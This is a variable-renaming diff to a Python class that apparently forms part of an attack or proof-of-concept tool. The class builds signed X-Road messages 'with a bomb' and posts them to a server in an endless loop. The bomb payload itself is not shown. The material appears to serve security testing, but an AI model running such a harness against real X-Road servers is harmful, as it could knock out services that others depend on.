@@ -91,7 +91,7 @@ class Peer:
     def message(self) -> tuple[dict[str, str], bytes]:
         """The headers and the body of one message with a bomb."""
         request_id = str(uuid.uuid4())
-        asked = rest.build_request(
+        request = rest.build_request(
             "GET",
             "/r1/MX/GOB/PROV/SYS/echo/x",
             [("X-Road-Client", CLIENT), ("X-Road-Id", request_id)],
@@ -103,7 +103,7 @@ class Peer:
         body = b"".join(
             (
                 writer.ocsp(self._ocsp(self._auth)),
-                writer.rest(asked.raw, is_response=False),
+                writer.rest(request.raw, is_response=False),
                 writer.hash_chain_result(result),
                 writer.hash_chain(chain),
                 writer.signature(self._signature(result)),
@@ -124,9 +124,9 @@ class Peer:
             while True:
                 headers, body = self.message()
                 async with session.post(self._address, data=body, headers=headers, ssl=self._tls) as answer:
-                    said = await answer.read()
-                code = re.search(rb"<faultcode>([^<]*)", said)
-                print(code[1].decode() if code else said[:100], flush=True)
+                    body_text = await answer.read()
+                code = re.search(rb"<faultcode>([^<]*)", body_text)
+                print(code[1].decode() if code else body_text[:100], flush=True)
                 await asyncio.sleep(1)
 
 
